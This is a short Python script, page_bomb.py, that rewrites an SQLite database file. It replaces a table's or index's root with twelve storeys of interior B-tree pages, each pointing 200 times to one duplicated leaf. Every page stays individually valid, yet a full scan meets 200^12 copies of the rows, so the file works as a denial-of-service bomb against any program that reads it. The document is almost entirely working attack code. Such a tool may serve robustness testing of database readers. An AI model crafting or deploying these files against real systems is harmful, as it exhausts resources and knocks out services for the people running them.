#!/usr/bin/env python3
"""page_bomb.py FILE NAME - make of a table's or index's pages, in an SQLite file, a tree of 12 storeys in which each page names
the one below it 200 times: 200^12 times the rows that its last page has. Each page by itself is as it should be."""
import sqlite3
import struct
import sys

STOREYS, TIMES = 12, 200


def varint(x):
    out = [x & 127]
    while x > 127:
        x >>= 7
        out.insert(0, x & 127 | 128)
    return bytes(out)


def page(size, kind, cells, last):
    """An interior page: cells, then the child behind them."""
    body, at, places = bytearray(size), size, b""
    for cell in cells:
        at -= len(cell)
        body[at:at + len(cell)] = cell
        places += struct.pack(">H", at)
    body[:12] = struct.pack(">BHHHBI", kind, 0, len(cells), at, 0, last)
    body[12:12 + len(places)] = places
    return body


def main(path, name):
    db = sqlite3.connect(path)
    root, = db.execute("SELECT rootpage FROM sqlite_schema WHERE name = ?", [name]).fetchone()
    db.close()
    with open(path, "rb") as file:
        data = bytearray(file.read())
    size = struct.unpack(">H", data[16:18])[0]
    leaf = data[(root - 1) * size:root * size]
    while leaf[0] in (2, 5):  # down to the first rows
        first = struct.unpack(">I", leaf[(at := struct.unpack(">H", leaf[12:14])[0]):at + 4])[0]
        leaf = data[(first - 1) * size:first * size]
    is_table = leaf[0] == 13
    assert leaf[0] in (10, 13)
    below = len(data) // size + 1
    data += leaf
    for storey in range(STOREYS):
        cells = [struct.pack(">I", below) + (varint(i + 1) if is_table else b"\x02\x02\x09") for i in range(TIMES)]
        made = page(size, 5 if is_table else 2, cells, below)
        if storey == STOREYS - 1:
            data[(root - 1) * size:root * size] = made
        else:
            below = len(data) // size + 1
            data += made
    data[28:32] = struct.pack(">I", len(data) // size)
    data[92:96] = data[24:28]  # the size in the head is that of this version
    with open(path, "wb") as file:
        file.write(data)


main(*sys.argv[1:])
